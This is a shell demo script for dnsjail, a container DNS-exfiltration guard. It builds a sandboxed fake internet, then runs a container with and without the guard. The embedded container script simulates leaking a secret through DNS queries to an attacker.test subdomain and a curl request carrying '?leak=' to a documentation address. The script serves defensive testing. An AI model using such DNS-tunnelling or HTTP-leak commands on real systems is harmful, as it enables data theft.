#!/bin/bash
# demo.sh: dnsjail in two minutes, on a fresh Debian 12 machine, as root.
#
#   sudo scripts/demo.sh
#
# It installs what is missing (apt-get), builds dnsjail, builds a small fake internet in network
# namespaces (never linked to your real network; documentation addresses only) with a "canary"
# resolver that records every name it is asked, and then:
#   1. runs a container under dnsjail that tries to leak a secret through DNS and to connect out:
#      the answer is the sinkhole 6.6.6.6, the connection is refused, and the canary saw nothing;
#   2. runs the same container without dnsjail: the canary catches the secret.
# Everything it made is removed at the end.
#
# Environment: DNSJAIL_BUILDDIR=DIR reuses (or keeps) a build directory; DNSJAIL_DEMO_NO_APT=1
# skips the package step.
set -u

SRCDIR=$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)

if [ -t 1 ]; then
    BOLD=$(printf '\033[1m') GREEN=$(printf '\033[32m') RED=$(printf '\033[31m')
    DIM=$(printf '\033[2m') RESET=$(printf '\033[0m')
else
    BOLD='' GREEN='' RED='' DIM='' RESET=''
fi
step() { printf '\n%s==> %s%s\n' "$BOLD" "$*" "$RESET"; }
say() { printf '    %s\n' "$*"; }
good() { printf '    %s%s%s\n' "$GREEN" "$*" "$RESET"; }
bad() { printf '    %s%s%s\n' "$RED" "$*" "$RESET"; }
indent() { sed "s/^/      $DIM/; s/\$/$RESET/"; }
die() {
    bad "error: $*"
    exit 1
}

[ "$(id -u)" -eq 0 ] || die "run me as root (I create network namespaces and run containers)"
[ -r /etc/debian_version ] || say "(not Debian? the package step assumes apt-get)"

# ---- 1. packages --------------------------------------------------------------------------
# dnsmasq-base is the dnsmasq program without the system service: the demo starts its own
# canary inside a namespace and does not want a resolver on this machine's port 53.
PACKAGES="build-essential autoconf automake libtool pkg-config libseccomp-dev libyajl-dev
    libnftnl-dev libmnl-dev libssl-dev runc nftables iproute2 dnsmasq-base bind9-dnsutils
    python3 curl util-linux"
if [ -z "${DNSJAIL_DEMO_NO_APT:-}" ]; then
    step "Checking the packages the demo needs"
    missing=
    for p in $PACKAGES; do
        dpkg -s "$p" >/dev/null 2>&1 || missing="$missing $p"
    done
    if [ -n "$missing" ]; then
        say "installing:$missing"
        apt-get update -qq && DEBIAN_FRONTEND=noninteractive apt-get install -y -qq \
            --no-install-recommends $missing >/dev/null || die "apt-get install failed"
    fi
    good "all there"
fi

# ---- 2. build -----------------------------------------------------------------------------
step "Building dnsjail"
KEEP_BUILD=${DNSJAIL_BUILDDIR:+yes}
BUILDDIR=${DNSJAIL_BUILDDIR:-$(mktemp -d /tmp/dnsjail-demo-build.XXXXXX)}
remove_build() { [ -n "$KEEP_BUILD" ] || rm -rf "$BUILDDIR"; }
trap remove_build EXIT
mkdir -p "$BUILDDIR"
if [ ! -x "$SRCDIR/configure" ]; then
    say "./autogen.sh"
    (cd "$SRCDIR" && ./autogen.sh) >"$BUILDDIR/autogen.log" 2>&1 ||
        die "autogen.sh failed, see $BUILDDIR/autogen.log"
fi
if [ ! -f "$BUILDDIR/Makefile" ]; then
    say "configure (in $BUILDDIR)"
    (cd "$BUILDDIR" && "$SRCDIR/configure") >"$BUILDDIR/configure.log" 2>&1 ||
        die "configure failed, see $BUILDDIR/configure.log"
fi
say "make"
make -C "$BUILDDIR" -j"$(nproc)" hook/dnsjail-hook dnsstub/dnsjail-dnsstub proxy/dnsjail-proxy >"$BUILDDIR/make.log" 2>&1 ||
    die "make failed, see $BUILDDIR/make.log"
good "built $BUILDDIR/hook/dnsjail-hook and dnsstub/dnsjail-dnsstub"

# ---- 3. the test world --------------------------------------------------------------------
step "Building a fake internet (network namespaces, documentation addresses only)"
export top_srcdir=$SRCDIR top_builddir=$BUILDDIR
# shellcheck source-path=SCRIPTDIR source=../tests/e2e/world.sh
. "$SRCDIR/tests/e2e/world.sh"
world_up # replaces the EXIT trap with the world's cleanup...
world_on_cleanup remove_build # ...which now removes the build directory too
world_dnsjail_conf || die "cannot write the dnsjail configuration"
say "a canary resolver at 192.0.2.1 (and at every other address) that answers 203.0.113.7"
say "and writes down every name it is asked; listeners that record every connection"
say "dnsjail config: $W_CONF"

SECRET=secret-$(world_random).attacker.test
DEMO_SCRIPT='
echo "$ dig +short $1"
dig +short +time=2 +tries=1 "$1"
echo "$ dig +short @203.0.113.9 $1   (a resolver of its own choosing)"
dig +short +time=2 +tries=1 @203.0.113.9 "$1"
echo "$ curl http://203.0.113.80/?leak=$1"
curl -sS -m 3 "http://203.0.113.80/?leak=$1" 2>&1 || true
'

run_demo_container() { # LABEL JAIL
    world_ctns "demo$1" || die "cannot make a namespace"
    local opts=()
    [ "$2" = yes ] && opts=(--hook "$W_HOOK" --hook-config "$W_CONF" --annotation io.dnsjail.enable=true)
    local b
    b=$(world_bundle "$W_ID-demo-$1" --netns "$W_NS" "${opts[@]}" -- /bin/sh -c "$DEMO_SCRIPT" sh \
        "$SECRET") || die "cannot make the bundle"
    run_runc "$W_ID-demo-$1" "$b"
    indent <"$RUN_OUT"
    [ "$RUN_RC" -eq 0 ] || { bad "runc exited with $RUN_RC:"; indent <"$RUN_ERR"; }
}

# ---- 4. jailed ----------------------------------------------------------------------------
step "A container under dnsjail tries to leak \"$SECRET\""
run_demo_container jailed yes
if grep -qx 6.6.6.6 "$RUN_OUT"; then
    good "the container got the sinkhole address 6.6.6.6: dnsjail's stub answered"
else
    bad "expected 6.6.6.6 from the stub"
fi
say "dnsjail's log ($W_LOG):"
grep -F "\"qname\":\"$SECRET" "$W_LOG" | head -2 | indent
if canary_saw "$SECRET"; then
    bad "the canary saw the secret: the jail leaked"
else
    good "the canary resolver and listeners saw nothing of it"
fi

# ---- 5. control ---------------------------------------------------------------------------
step "The same container without dnsjail (the control)"
run_demo_container open no
if canary_saw "$SECRET"; then
    good "the canary caught the secret, as any resolver on the path would:"
    grep -F "$SECRET" "$W_CANARY_DNS_LOG" | grep 'query\[' | head -2 | indent
    grep -F "$SECRET" "$W_CANARY_NET_LOG" | head -1 | indent
else
    bad "the canary saw nothing: the test world is broken"
fi

step "Cleaning up"
world_cleanup
good "done: namespaces, containers, daemons and temporary files removed"
